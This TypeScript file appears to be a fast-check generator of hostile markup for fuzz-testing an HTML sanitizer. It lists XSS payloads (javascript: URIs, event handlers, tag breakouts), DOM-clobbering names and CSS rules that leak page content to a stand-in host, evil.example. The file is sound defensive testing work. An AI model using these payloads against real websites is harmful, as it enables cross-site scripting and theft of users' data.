import { fc } from '../../support/properties/attacks';

/**
 * Elements of three markup languages whose boundaries parsers and serializers see
 * differently.
 */
const HTML = [
  ...['b', 'i', 'code', 'br', 'p', 'a', 'img', 'video', 'audio', 'object', 'embed'],
  ...['script', 'style', 'link', 'meta', 'base', 'iframe', 'frame', 'frameset'],
  ...['noscript', 'noembed', 'noframes', 'xmp', 'plaintext', 'listing', 'template'],
  ...['form', 'input', 'button', 'select', 'option', 'textarea', 'isindex', 'keygen'],
  ...['table', 'caption', 'tbody', 'tr', 'td', 'col', 'details', 'dialog', 'marquee'],
  ...['title', 'body', 'head', 'html', 'slot', 'portal', 'x-element', 'fencedframe'],
];
const SVG = [
  ...['svg', 'g', 'use', 'image', 'a', 'animate', 'set', 'animateMotion', 'handler'],
  ...['foreignObject', 'desc', 'title', 'style', 'script', 'feImage', 'pattern', 'text'],
];
const MATHML = [
  ...['math', 'mi', 'mo', 'mn', 'ms', 'mtext', 'mglyph', 'malignmark', 'maction'],
  ...['annotation-xml', 'semantics', 'mstyle', 'menclose', 'mpadded'],
];

const SCRIPTS = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)'],
  ...['java\nscript:alert(1)', 'java&Tab;script:alert(1)', '&#106;avascript:alert(1)'],
  ...['vbscript:x', 'data:text/html,<script>alert(1)</script>', '//evil.example/'],
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
];
/** CSS rules that leak content of the page to another host, or cover it. */
const STYLES = [
  'background:url(//evil.example/)',
  'background-image:image-set("//evil.example/" 1x)',
  'position:fixed;inset:0',
  'behavior:url(#default#time2)',
  '-moz-binding:url(//evil.example/#x)',
  'width:expression(alert(1))',
  '--x:url(//evil.example/);background:var(--x)',
  '@import "//evil.example/";',
  'input[value^=a]{background:url(//evil.example/a)}',
  '@font-face{font-family:x;src:url(//evil.example/);unicode-range:U+0041}',
  '}*{display:none',
  '\\62 ackground:url(//evil.example/)',
];
const EVENTS = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onbegin', 'onanimationend'],
  ...['onpointerrawupdate', 'onsecuritypolicyviolation', 'ONMOUSEOVER', 'on', 'onx'],
];
/** Names that override properties of the document (DOM clobbering). */
const CLOBBERS = ['attributes', 'nodeName', 'parentNode', 'cookie', 'body', '__proto__'];

const pick = (list: readonly string[]) => fc.constantFrom(...list);
const attribute = fc
  .tuple(
    fc.oneof(
      fc.tuple(pick(EVENTS), fc.constant('alert(1)')),
      fc.tuple(
        pick([
          ...['href', 'src', 'xlink:href', 'action', 'formaction', 'poster', 'data'],
          ...['srcset', 'background', 'from', 'to', 'values', 'srcdoc', 'ping', 'cite'],
        ]),
        pick(SCRIPTS),
      ),
      fc.tuple(pick(['style', 'class']), pick(STYLES)),
      fc.tuple(pick(['id', 'name', 'slot', 'is', 'part']), pick(CLOBBERS)),
      fc.tuple(
        pick(['title', 'alt', 'xmlns', 'encoding', 'attributeName', 'http-equiv']),
        pick([
          ...['</style><img src=x onerror=alert(1)>', '--><script>alert(1)</script>'],
          ...['http://www.w3.org/1998/Math/MathML', 'text/html', 'href', 'refresh'],
        ]),
      ),
    ),
    pick(['"', "'", '', '`', '" x="']),
    pick([' ', '/', '\n', '\f', '\u0000', '']),
  )
  .map(([[name, value], quote, gap]) => `${gap}${name}=${quote}${value}${quote}`);

const text = fc.oneof(
  pick([
    'fine',
    'alert(1)',
    '&lt;script&gt;',
    '&#60;',
    ']]>',
    '<!--',
    '-->',
    '<![CDATA[',
  ]),
  pick([
    '--!>',
    '<!-->',
    '<?xml?>',
    '<%',
    '</',
    '<',
    '&',
    '\u0000',
    '\u2028',
    '<!doctype',
  ]),
  pick(STYLES),
  fc.string({ unit: 'binary', maxLength: 8 }),
);

const { tree } = fc.letrec<{ tree: string; node: string }>((tie) => ({
  tree: fc.array(tie('node'), { maxLength: 4 }).map((all) => all.join('')),
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    text,
    fc
      .tuple(
        fc.oneof(pick(HTML), pick(SVG), pick(MATHML)),
        fc.array(attribute, { maxLength: 3 }),
        tie('tree'),
        // Closed, open, self-closing, closed by another element, opened twice.
        fc.oneof(
          fc.constantFrom('close', 'close', 'close', 'open', 'self', 'twice'),
          pick(HTML),
        ),
      )
      .map(([name, attributes, inside, end]) => {
        const start = `<${name}${attributes.join('')}`;
        if (end === 'self') return `${start}/>${inside}`;
        if (end === 'open') return `${start}>${inside}`;
        if (end === 'twice') return `<${start}>${inside}</${name}></${name}>`;
        return `${start}>${inside}</${end === 'close' ? name : end}>`;
      }),
  ),
}));

/** Markup that attacks a sanitizer: nested HTML, SVG and MathML. */
export const hostileMarkup: fc.Arbitrary<string> = tree;
